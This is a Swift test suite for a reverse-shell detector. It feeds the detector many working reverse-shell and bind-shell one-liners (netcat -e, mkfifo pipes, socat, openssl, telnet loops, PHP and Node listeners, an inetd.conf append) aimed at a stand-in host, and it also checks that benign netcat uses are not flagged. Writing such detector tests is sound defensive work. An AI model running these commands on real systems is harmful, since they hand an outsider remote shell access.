import Bytes
import Testing

@testable import Detectors

private func shells(_ text: String) -> [TextDetection] { text.withView { ReverseShellDetector().scan($0, .command) } }

/// Clients with a shell, as injections, frameworks and lists of arguments write them.
@Suite struct NetcatMatcherTests {
  @Test(arguments: [
    // A comment's sign ends an injection.
    ("nc 10.9.8.7 4444|sh #", "nc"), ("mknod p p && nc 10.9.8.7 4444 0<p | /bin/sh 1>p #", "mkfifo_nc"),
    ("x; telnet 10.9.8.7 4444 | sh # x", "telnet"),
    // Redirections without blanks.
    ("nc 10.9.8.7 4444|bash>/tmp/f", "nc"), ("mkfifo f;nc 10.9.8.7 4444 <f|sh>f", "mkfifo_nc"),
    ("mkfifo f;nc 10.9.8.7 4444<f|sh >f", "mkfifo_nc"), ("<pre>nc -e /bin/sh 10.9.8.7 4444</pre>", "nc"),
    // A loop with a shell in it, and a shell's path that another command prints.
    (
      "sh -c '(sleep 4000|telnet 10.9.8.7 4444|while : ; do sh && break; done 2>&1|telnet 10.9.8.7 4444 >/dev/null 2>&1 &)'",
      "telnet"
    ),
    (
      "sh -c '(sleep 3999|openssl s_client -quiet -connect 10.9.8.7:4444|while : ; do sh && break; done 2>&1|openssl s_client -quiet -connect 10.9.8.7:4444 >/dev/null 2>&1 &)'",
      "openssl"
    ),
    ("F=/tmp/a;mkfifo $F && telnet -z verify=0 10.9.8.7 4444 0<$F | $(which $0) 1>$F & sleep 10 && rm $F &", "telnet"),
    ("nc -e $(which bash) 10.9.8.7 4444", "nc"), ("nc -e `which bash` 10.9.8.7 4444", "nc"),
    ("nc 10.9.8.7 4444 | while read c; do $c; done", "nc"),
    // What is escaped at the end of a text within a text.
    ("printf \"nc 10.9.8.7 4444 -e /bin/sh\\n\" > /tmp/x", "nc"),
    ("system(\"nc 10.9.8.7 4444 -e /bin/sh\\r\\n\");", "nc"),
    ("{\"a\":\"nc 10.9.8.7 4444|sh\\n\"}", "nc"), ("{\"a\":\"{\\\"b\\\":\\\"nc 10.9.8.7 4444 -e /bin/sh\\\"}\"}", "nc"),
    ("{\"a\":\"socat tcp:10.9.8.7:4444 exec:sh\\n\"}", "socat"),
    // Lists of arguments.
    ("[\"nc\",\"-e\",\"/bin/sh\",\"10.9.8.7\",\"4444\"]", "nc"),
    ("command: [ \"nc\", \"10.9.8.7\", \"4444\", \"-e\", \"/bin/bash\" ]", "nc"),
    ("subprocess.call(['/bin/nc', '10.9.8.7', '4444', '-e', '/bin/sh'])", "nc"),
    ("CMD [\"ncat\",\"--exec\",\"/bin/bash\",\"10.9.8.7\",\"4444\"]", "nc"),
    ("type=EXECVE msg=audit(1.1:1): argc=5 a0=\"nc\" a1=\"-e\" a2=\"/bin/sh\" a3=\"10.9.8.7\" a4=\"4444\"", "nc"),
    ("args:\n  - nc\n  - -e\n  - /bin/sh\n  - 10.9.8.7\n  - \"4444\"\nports:\n  - 80", "nc"),
    ("command:\n- /bin/nc\n- \"10.9.8.7\"\n- \"4444\"\n- -e\n- sh", "nc"),
    ("\"Cmd\": [\n  \"nc\",\n  \"-e\",\n  \"/bin/sh\",\n  \"10.9.8.7\",\n  \"4444\"\n],", "nc"),
    ("\"Path\": \"nc\",\n\"Args\": [\n  \"-e\",\n  \"/bin/sh\",\n  \"10.9.8.7\",\n  \"4444\"\n],", "nc"),
    ("Command::new(\"nc\").args([\"-e\", \"/bin/sh\", \"10.9.8.7\", \"4444\"]).spawn()", "nc"),
    ("Command::new(\"nc\").arg(\"10.9.8.7\").arg(\"4444\").arg(\"-e\").arg(\"sh\").spawn()", "nc"),
    ("<Data Name=\"CommandLine\">nc -e /bin/sh 10.9.8.7 4444</Data>", "nc"),
    ("Netcat runs inside container (user=root command=nc -e /bin/sh 10.9.8.7 4444 container=x)", "nc"),
    ("nc -c 'exec /bin/bash -i' 10.9.8.7 4444", "nc"),
    ("mkfifo f;cat f|script -qc /bin/bash /dev/null|nc 10.9.8.7 4444>f", "mkfifo_nc"),
    // Quotes around the far end.
    ("socat TCP:\"10.9.8.7\":4444 EXEC:/bin/sh", "socat"),
    (
      "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect \"10.9.8.7:4444\" > /tmp/s",
      "openssl"
    ),
    ("nc64.exe -e cmd.exe 10.9.8.7 4444", "nc"),
  ])
  func aClientHasAShell(text: String, technique: String) {
    let found = shells(text).first
    #expect(found?.technique == technique)
    #expect(found?.host == "10.9.8.7")
    #expect(found?.port == 4444)
  }

  @Test(arguments: [
    "nc 10.0.0.5 9000 | while read l; do echo \"$l\" >> log; done", "nc 10.0.0.5 9000 | tee f # sh",
    "nc 10.0.0.5 9000 | while :; do sh parse.sh; done", "nc 10.0.0.5 9000 | $(which jq) .",
    "[\"nc\",\"-zv\",\"10.0.0.5\",\"4444\"]", "test: [\"CMD\", \"nc\", \"-z\", \"db\", \"5432\"]",
    "a0=\"nc\" a1=\"-l\" a2=\"9000\"", "nc 10.0.0.5 9000>sh", "tools: \"nc\", \"bash\", \"10.0.0.5\", \"4444\"",
    "command:\n- nc\n- -z\n- 10.0.0.5\n- \"4444\"\n- sh", "command=nc -zv 10.0.0.5 80",
    "nc -c 'exec date' 10.0.0.5 4444",
    "cat x | script -qc make log | nc 10.0.0.5 80", "ncat -l 2323 -c 'cat /etc/motd'; vim -c ':!bash'",
    "ncat 10.0.0.5 2323 -c 'date' | tee log; sh -c 'bash -i'",
    "telnetd -l /bin/login -p 23",
    "ftp stream tcp nowait root /usr/sbin/tcpd in.ftpd",
    "9000 stream tcp nowait nobody /bin/sh sh /opt/serve.sh",
  ])
  func aTransferHasNone(text: String) { #expect(shells(text).isEmpty) }

  /// A server that lets in whoever comes.
  @Test(arguments: [
    "telnetd -l /bin/sh -p 4444", "busybox telnetd -l/bin/sh -p4444", "/bin/busybox telnetd -p 4444 -l /bin/sh",
    "utelnetd -p 4444 -l /bin/sh &", "echo \"4444 stream tcp nowait root /bin/sh sh -i\" >> /etc/inetd.conf",
    "php -r '$s=socket_create_listen(4444);$c=socket_accept($s);while($l=socket_read($c,9)){socket_write($c,shell_exec($l));}'",
    "node -e 'require(\"net\").createServer(c=>{s=require(\"child_process\").spawn(\"/bin/sh\");c.pipe(s.stdin)}).listen(4444)'",
  ])
  func aServerHasAShell(text: String) {
    #expect(shells(text).first?.kind == .bindShell)
    #expect(shells(text).first?.port == 4444)
  }
}
